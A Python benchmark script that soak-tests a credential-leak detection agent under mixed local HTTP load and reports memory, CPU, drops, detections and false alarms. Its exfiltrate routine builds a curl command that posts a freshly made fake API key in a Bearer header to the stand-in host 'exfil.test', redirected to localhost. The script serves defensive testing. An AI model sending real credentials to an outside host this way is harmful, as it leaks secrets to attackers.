#!/usr/bin/python3
"""Soak: the agent under a long mixed load, and what it costs and misses over time.

Clients (all short-lived processes inside a cgroup v2 created here and removed at exit, against
servers on 127.0.0.1) are launched without pause, up to --concurrency at once, from this mix:
  curl HTTPS HTTP/1.1, ten requests a process, an OpenAI key to api.openai.com (legitimate)
  curl plain HTTP, ten POSTs of random JSON (no key)
  curl HTTP/2 (nghttpd), ten requests multiplexed on one connection, the key in each (HPACK)
  curl HTTPS upload of a few MiB (legitimate)
  Python urllib, 4 threads x 5 connections, an Anthropic key to api.anthropic.com
  node fetch, 4 connections at once, the OpenAI key to api.openai.com
  exec churn: a shell running 20 short-lived commands
and every --exfil-every seconds one exfiltration: curl sending a fresh key to exfil.test.

Prints, every --sample seconds, the agent's RSS and CPU, then a summary: RSS first / max / last
and the max of each half, agent CPU per 1,000 requests, every drop and truncation counter,
detections (exfiltrations alerted, by pid) and false alarms (any other alert), and whether a raw
key reached any agent output. Exits 0 when it measured (even with misses), 1 when it could not.

  sudo bench/soak.py --seconds 60            (bench/README.md; CI runs tests/bench/run-soak-smoke.sh)
"""

import argparse
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests" / "kernel"))

from kharness.cgroup import TestCgroup  # noqa: E402
from kharness.pki import TestPki  # noqa: E402
from kharness.secrets import SecretRegistry  # noqa: E402
from kharness.servers import RecordingServer  # noqa: E402

PYTHON = "/usr/bin/python3"
CLIENTS = REPO / "tests" / "kernel" / "clients"
DROP_PREFIXES = ("ringbuf_drop", "truncated_", "call_table_full", "fd_table_full",
                 "user_read_fault", "iovecs_skipped", "dns_messages_skipped")
PIPELINE_DROPS = ("records_undecodable", "streams_evicted", "connections_evicted",
                  "processes_evicted", "decoded_units_evicted", "secrets_hold_full",
                  "alerts_dropped", "alert_sink_errors", "dns_cache_evicted",
                  "known_values_dropped_full", "tainted_pipes_evicted")


def parse_args():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--seconds", type=int, default=60, help="load duration")
    p.add_argument("--sample", type=float, default=5.0, help="seconds between RSS/CPU samples")
    p.add_argument("--concurrency", type=int, default=8, help="client processes at once")
    p.add_argument("--exfil-every", type=float, default=10.0, help="seconds between exfiltrations")
    p.add_argument("--agent", default=str(REPO / "build" / "agent" / "credsentry-agent"))
    p.add_argument("--rules", default=str(REPO / "rules" / "credentials"))
    p.add_argument("--keep", action="store_true", help="keep the scratch directory")
    return p.parse_args()


def die(msg: str) -> None:
    print(f"soak: {msg}", file=sys.stderr)
    sys.exit(1)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class ProcessSampler:
    """RSS and CPU seconds of one process, from /proc."""

    def __init__(self, pid: int):
        self.pid = pid
        self.tick = os.sysconf("SC_CLK_TCK")

    def rss_mb(self) -> float:
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return 0.0

    def cpu_s(self) -> float:
        with open(f"/proc/{self.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / self.tick


class Soak:
    def __init__(self, args, scratch: Path):
        self.args = args
        self.dir = scratch
        self.registry = SecretRegistry()
        self.cgroup = TestCgroup(Path("/sys/fs/cgroup/unified"), prefix="credsentry-soak-")
        (scratch / "pki").mkdir()
        self.pki = TestPki(scratch / "pki")
        self.https = RecordingServer(cert=self.pki.cert, key=self.pki.key)
        self.http = RecordingServer()
        for server in (self.https, self.http):
            server.backlog(512)
        self.h2_port = None
        self.h2 = None
        self.agent = None
        self.running: list[tuple[str, subprocess.Popen]] = []
        self.started = {}      # label -> processes started
        self.failed = {}       # label -> processes that exited non-zero
        self.h2_requests = 0   # HTTP/2 requests of processes that succeeded (nghttpd keeps no count)
        self.exfils = []       # (pid, start time)
        self.samples = []      # (t, rss_mb, cpu_s, requests)
        self._prepare_files()

    # ---- set-up -------------------------------------------------------------------------------

    def _prepare_files(self) -> None:
        d = self.dir
        openai, anthropic = self.registry.new("openai"), self.registry.new("anthropic")
        (d / "openai.hdr").write_text(f"Authorization: Bearer {openai}\n")
        (d / "openai.json").write_text(json.dumps({"Authorization": f"Bearer {openai}"}))
        (d / "anthropic.json").write_text(json.dumps({"x-api-key": anthropic}))
        (d / "body.json").write_text('{"model":"x","messages":[]}')
        (d / "plain.json").write_text(json.dumps({"note": secrets.token_hex(64)}))
        with open(d / "upload.bin", "wb") as f:
            f.write(os.urandom(4 << 20))
        os.chmod(d, 0o755)

    def start_h2(self) -> None:
        if not shutil.which("nghttpd"):
            print("soak: nghttpd missing: no HTTP/2 clients in the mix")
            return
        docroot = self.dir / "h2root"
        docroot.mkdir()
        (docroot / "index.html").write_text("ok\n")
        self.h2_port = free_port()
        log = open(self.dir / "nghttpd.log", "wb")
        self.h2 = subprocess.Popen(["nghttpd", "--address=127.0.0.1", f"--htdocs={docroot}",
                                    str(self.h2_port), str(self.pki.key), str(self.pki.cert)],
                                   stdout=log, stderr=log)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", self.h2_port), timeout=0.2).close()
                return
            except OSError:
                time.sleep(0.1)
        die("nghttpd did not start")

    def start_agent(self) -> None:
        d = self.dir / "agent"
        d.mkdir()
        self.alerts_file, self.stats_file = d / "alerts.jsonl", d / "stats.json"
        self.log_file = d / "agent.log"
        for f in (self.alerts_file, self.stats_file, self.log_file):
            self.registry.watch_file(f)
        argv = [self.args.agent, "--cgroup", str(self.cgroup), "--rules", self.args.rules,
                "--alerts-file", str(self.alerts_file), "--stats-file", str(self.stats_file),
                "--log-file", str(self.log_file), "--ready-file", str(d / "ready"),
                "--fingerprint-key", str(d / "fingerprint.key")]
        self.agent = subprocess.Popen(argv, stdin=subprocess.DEVNULL,
                                      stdout=open(d / "agent.stdout", "wb"),
                                      stderr=open(d / "agent.stderr", "wb"))
        self.registry.watch_file(d / "agent.stdout")
        self.registry.watch_file(d / "agent.stderr")
        deadline = time.monotonic() + 60
        while not (d / "ready").exists():
            if self.agent.poll() is not None or time.monotonic() > deadline:
                die(f"agent not ready (rc {self.agent.poll()}); see {self.log_file}")
            time.sleep(0.05)

    # ---- clients ------------------------------------------------------------------------------

    def _curl(self, name: str, port: int, tls: bool = True) -> list[str]:
        base = ["curl", "-sS", "--fail", "--noproxy", "*", "--max-time", "60", "-o", "/dev/null"]
        if tls:
            base += ["--cacert", str(self.pki.ca), "--resolve", f"{name}:{port}:127.0.0.1"]
        return base

    def client(self, label: str) -> tuple[list[str], dict]:
        d, https = self.dir, self.https
        env = {"PATH": "/usr/bin:/bin", "HOME": str(d), "NO_PROXY": "*",
               "NODE_EXTRA_CA_CERTS": str(self.pki.ca)}
        if label == "curl-https":
            urls = [https.url("api.openai.com", f"/v1/chat/completions?n={i}") for i in range(10)]
            return (self._curl("api.openai.com", https.port) + ["--http1.1", "-H",
                    f"@{d / 'openai.hdr'}", "--data-binary", f"@{d / 'body.json'}"] + urls, env)
        if label == "curl-plain":
            urls = [self.http.url("127.0.0.1", f"/ingest?n={i}") for i in range(10)]
            return self._curl("", 0, tls=False) + ["--data-binary", f"@{d / 'plain.json'}"] + urls, env
        if label == "curl-h2":
            urls = [f"https://api.openai.com:{self.h2_port}/index.html?n={i}" for i in range(10)]
            return (self._curl("api.openai.com", self.h2_port) + ["--http2", "-H",
                    f"@{d / 'openai.hdr'}"] + urls, env)
        if label == "curl-upload":
            return (self._curl("api.openai.com", https.port) + ["--http1.1", "-H", "Expect:",
                    "-H", f"@{d / 'openai.hdr'}", "-T", str(d / "upload.bin"),
                    https.url("api.openai.com", "/v1/files")], env)
        if label == "python":
            return ([PYTHON, str(CLIENTS / "https_client.py"), "--mode", "urllib", "--name",
                     "api.anthropic.com", "--port", str(https.port), "--cafile", str(self.pki.ca),
                     "--path", "/v1/messages", "--headers-file", str(d / "anthropic.json"),
                     "--body-file", str(d / "body.json"), "--threads", "4", "--repeat", "5"], env)
        if label == "node":
            return (["/usr/bin/node", str(CLIENTS / "node_fetch.js"), "api.openai.com",
                     str(https.port), "/v1/chat/completions", str(d / "openai.json"),
                     str(d / "body.json"), "4"], env)
        if label == "exec-churn":
            return (["/bin/sh", "-c", "i=0; while [ $i -lt 20 ]; do /bin/true; i=$((i+1)); done"],
                    env)
        raise ValueError(label)

    def launch(self, label: str, argv: list[str], env: dict) -> subprocess.Popen:
        procs_file = self.cgroup.procs_file

        def join():
            fd = os.open(procs_file, os.O_WRONLY)
            try:
                os.write(fd, str(os.getpid()).encode())
            finally:
                os.close(fd)

        proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, env=env, cwd=str(self.dir),
                                preexec_fn=join)
        self.running.append((label, proc))
        self.started[label] = self.started.get(label, 0) + 1
        return proc

    def exfiltrate(self) -> None:
        key = self.registry.new("openai")
        hdr = self.dir / f"exfil-{len(self.exfils)}.hdr"
        hdr.write_text(f"Authorization: Bearer {key}\n")
        argv = self._curl("exfil.test", self.https.port) + [
            "--http1.1", "-H", f"@{hdr}", "--data-binary", f"@{self.dir / 'body.json'}",
            self.https.url("exfil.test", "/collect")]
        proc = self.launch("exfil", argv, {"PATH": "/usr/bin:/bin", "NO_PROXY": "*"})
        self.exfils.append((proc.pid, time.monotonic()))

    def reap(self) -> None:
        still = []
        for label, proc in self.running:
            rc = proc.poll()
            if rc is None:
                still.append((label, proc))
            elif rc != 0:
                self.failed[label] = self.failed.get(label, 0) + 1
            elif label == "curl-h2":
                self.h2_requests += 10
        self.running = still

    # ---- the run ------------------------------------------------------------------------------

    def requests(self) -> int:
        return len(self.https.requests) + len(self.http.requests) + self.h2_requests

    def sample(self, sampler: ProcessSampler, t0: float) -> None:
        row = (time.monotonic() - t0, sampler.rss_mb(), sampler.cpu_s(), self.requests())
        self.samples.append(row)
        print(f"soak: t={row[0]:7.1f} s  agent RSS {row[1]:7.1f} MB  CPU {row[2]:8.2f} s  "
              f"requests {row[3]:8d}", flush=True)

    def run(self) -> None:
        mix = ["curl-https", "python", "curl-plain", "curl-https", "exec-churn", "curl-upload",
               "node", "curl-https", "curl-plain", "python"]
        if self.h2_port:
            mix[4:4] = ["curl-h2", "curl-h2"]
        sampler = ProcessSampler(self.agent.pid)
        t0 = time.monotonic()
        self.sample(sampler, t0)
        next_sample, next_exfil, i = t0 + self.args.sample, t0 + self.args.exfil_every / 2, 0
        end = t0 + self.args.seconds
        while time.monotonic() < end:
            self.reap()
            now = time.monotonic()
            if now >= next_exfil:
                self.exfiltrate()
                next_exfil += self.args.exfil_every
            while len(self.running) < self.args.concurrency:
                label = mix[i % len(mix)]
                i += 1
                self.launch(label, *self.client(label))
            if now >= next_sample:
                self.sample(sampler, t0)
                next_sample += self.args.sample
            time.sleep(0.01)
        deadline = time.monotonic() + 90
        while self.running and time.monotonic() < deadline:
            self.reap()
            time.sleep(0.05)
        for _, proc in self.running:
            proc.kill()
        self.load_seconds = time.monotonic() - t0
        time.sleep(3.0)  # the last alerts and a fresh stats file
        self.sample(sampler, t0)
        self.cpu_s = self.samples[-1][2] - self.samples[0][2]

    def stop(self) -> int:
        rc = 0
        if self.agent and self.agent.poll() is None:
            self.agent.send_signal(signal.SIGTERM)
            try:
                rc = self.agent.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.agent.kill()
                rc = -9
        return rc

    def close(self) -> None:
        for _, proc in self.running:
            proc.kill()
        if self.h2:
            self.h2.terminate()
            self.h2.wait(timeout=5)
        self.https.close()
        self.http.close()
        self.cgroup.remove()

    # ---- report -------------------------------------------------------------------------------

    def report(self, agent_rc: int) -> None:
        stats = json.loads(self.stats_file.read_text())
        alerts = [json.loads(line) for line in self.alerts_file.read_text().splitlines()
                  if line.strip()]
        requests = self.requests()
        rss = [s[1] for s in self.samples]
        half = max(1, len(rss) // 2)
        exfil_pids = {pid for pid, _ in self.exfils}
        detected = {a["process"]["pid"] for a in alerts
                    if a.get("process", {}).get("pid") in exfil_pids and
                    a.get("destination", {}).get("host") == "exfil.test"}
        false_alarms = [a for a in alerts if a.get("process", {}).get("pid") not in exfil_pids]
        kernel, pipeline = stats.get("kernel", {}), stats.get("pipeline", {})
        drops = {f"kernel.{k}": v for k, v in sorted(kernel.items())
                 if k.startswith(DROP_PREFIXES)}
        drops.update({f"pipeline.{k}": pipeline.get(k, 0) for k in PIPELINE_DROPS})
        for name, counters in (stats.get("sinks") or {}).items():
            for k, v in counters.items():
                if "drop" in k or "fail" in k:
                    drops[f"sinks.{name}.{k}"] = v
        started = sum(self.started.values())
        failed = sum(self.failed.values())
        print(f"soak: load {self.load_seconds:.0f} s, {started} client processes "
              f"({failed} failed: {self.failed}), {requests} requests "
              f"({requests / self.load_seconds:.1f}/s)")
        print(f"soak: clients by kind: {dict(sorted(self.started.items()))}")
        print(f"soak: agent RSS MB first {rss[0]:.1f} max {max(rss):.1f} last {rss[-1]:.1f}; "
              f"max first half {max(rss[:half]):.1f} max second half {max(rss[half:]):.1f}")
        per_k = self.cpu_s / (requests / 1000) if requests else float("nan")
        print(f"soak: agent CPU {self.cpu_s:.2f} s = {per_k:.3f} s per 1000 requests "
              f"({100 * self.cpu_s / self.load_seconds:.1f} % of one core)")
        print("soak: drops and truncations: " +
              ", ".join(f"{k} {v}" for k, v in drops.items()))
        print(f"soak: secrets matched {pipeline.get('secret_matches', 0)}, at expected "
              f"destinations {pipeline.get('secrets_to_expected_destinations', 0)}, held for "
              f"their destination {pipeline.get('secrets_held_for_destination', 0)}, unknown "
              f"destination {pipeline.get('verdicts_destination_unknown', 0)}")
        print(f"soak: detections {len(detected)}/{len(exfil_pids)}")
        print(f"soak: false alarms {len(false_alarms)}")
        for a in false_alarms[:10]:
            print(f"soak:   false alarm: {a.get('kind')} {a.get('process', {}).get('comm')} -> "
                  f"{a.get('destination', {}).get('host')!r} {a.get('destination', {}).get('ip')!r}")
        leaks = self.registry.leaks()
        print(f"soak: raw secrets in agent outputs: {len(leaks)}")
        print(f"soak: agent exit code on SIGTERM: {agent_rc}")


def main() -> int:
    args = parse_args()
    if os.geteuid() != 0:
        die("needs root (BPF programs, cgroups)")
    if not os.access(args.agent, os.X_OK):
        die(f"{args.agent} missing: ninja -C build credsentry-agent")
    scratch = Path(tempfile.mkdtemp(prefix="credsentry-soak-"))
    soak = None
    try:
        soak = Soak(args, scratch)
        soak.start_h2()
        soak.start_agent()
        soak.run()
        rc = soak.stop()
        soak.report(rc)
    finally:
        if soak:
            soak.stop()
            soak.close()
        if args.keep:
            print(f"soak: kept {scratch}")
        else:
            shutil.rmtree(scratch, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
